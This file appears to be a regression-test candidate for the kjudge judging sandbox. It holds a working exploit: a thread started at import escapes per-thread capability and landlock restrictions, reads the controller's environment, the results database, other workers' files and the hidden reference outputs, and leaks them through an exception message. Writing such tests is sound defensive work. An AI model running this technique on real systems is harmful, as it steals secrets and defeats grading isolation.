# Attack (a thread started at import keeps the worker's privileges): kjudge-worker-py imports a
# Python candidate before it applies the sandbox, and capabilities and landlock apply per thread
# (only seccomp is synchronised to every thread). A thread started here therefore keeps root's
# capabilities and an unrestricted file system after the worker has sandboxed itself. On the first
# call (inside the sandbox, as far as the worker knows) it reads:
#   /proc/<controller>/environ  (the controller is non-dumpable; CAP_SYS_PTRACE opens it anyway:
#                                KJUDGE_DB, KJUDGE_CACHE, the user's whole environment),
#   (not /proc/<controller>/cmdline: every process may read a command line, the judge's is public
#   by design and its --seed is overwritten in it, read_parent_cmdline_seed_softmax.cpp),
#   the results store (KJUDGE_DB from that environment, else ~/.local/share/kjudge/kjudge.db):
#                                its tables and their row counts, through sqlite3, read-only,
#   the other workers' scratch directories (reference, baselines): their files and party.json,
#   the reference worker's arena through /proc/<pid>/fd/4 (non-dumpable and in its own landlock
#                                domain: CAP_SYS_PTRACE opens it): every case's inputs and
#                                reference outputs, hidden ones included.
# If any of it was readable, kernel() raises an exception whose text carries what was read, so it
# lands in the verdict's reasons (and the store). If nothing was (the fixed judge), the kernel
# computes an honest torch.softmax and is judged on it.
# Pre-fix (b5c5f0e): runtime_error (rule nonzero_return), its reason holding the controller's
# environment (KJUDGE_DB, KJUDGE_CACHE, PATH, HOME), the store's tables and row
# counts, the run's scratch listing and the reference worker's arena size.
# Expected after the fix: every read denied; ok (harmless).
import os
import sqlite3
import threading

import torch

_go = threading.Event()
_done = threading.Event()
_loot = []


def _read(path, limit=600):
    with open(path, "rb") as f:
        return f.read(limit).replace(b"\0", b" ").decode("utf-8", "replace")


def _snoop():
    _go.wait()
    controller = os.getppid()
    env = {}
    try:
        raw = _read(f"/proc/{controller}/environ", 1 << 16)
        env = dict(kv.split("=", 1) for kv in raw.split(" ") if "=" in kv)
        _loot.append("controller environ: " + " ".join(f"{k}={v}" for k, v in sorted(env.items())
                                                       if k.startswith(("KJUDGE", "HOME", "USER", "PATH")))[:600])
    except OSError:
        pass
    home = "/root"
    try:
        for line in open("/etc/passwd"):
            f = line.split(":")
            if len(f) > 5 and f[2] == str(os.getuid()):
                home = f[5]
    except OSError:
        pass
    for db in [env.get("KJUDGE_DB"), os.path.join(home, ".local/share/kjudge/kjudge.db")]:
        if not db or not os.path.exists(db):
            continue
        try:
            c = sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=1)
            tables = [r[0] for r in c.execute("select name from sqlite_master where type='table'")]
            rows = []
            for t in tables[:8]:
                rows.append(f"{t}={c.execute(f'select count(*) from {t}').fetchone()[0]}")
            _loot.append(f"store {db}: " + ", ".join(rows))
            c.close()
        except sqlite3.Error:
            continue  # not readable: nothing learnt
        break
    scratch = os.path.dirname(os.environ.get("HOME", "/nonexistent"))  # .../scratch/<run>/
    try:
        others = [d for d in os.listdir(scratch) if not d.startswith("candidate")]
        _loot.append(f"scratch {scratch}: {sorted(others)}")
        for d in others:
            p = os.path.join(scratch, d, "party.json")
            if os.path.exists(p):
                _loot.append(f"{p}: " + _read(p, 200).replace("\n", " "))
                break
    except OSError:
        pass
    for d in os.listdir("/proc"):  # the reference worker's arena: inputs and reference outputs
        try:
            if d.isdigit() and os.readlink(f"/proc/{d}/cwd") == os.path.join(scratch, "reference"):
                with open(f"/proc/{d}/fd/4", "rb") as f:
                    size = os.fstat(f.fileno()).st_size
                    nonzero = sum(1 for b in f.read(1 << 20) if b)
                _loot.append(f"reference worker {d} arena (/proc/{d}/fd/4): {size} bytes, "
                             f"{nonzero} non-zero in its first MiB")
                break
        except OSError:
            continue
    _done.set()


threading.Thread(target=_snoop, daemon=True).start()


def kernel(x):
    _go.set()
    _done.wait(5)
    if _loot:
        raise RuntimeError("read outside the sandbox: " + " | ".join(_loot))
    return torch.softmax(x, dim=-1)
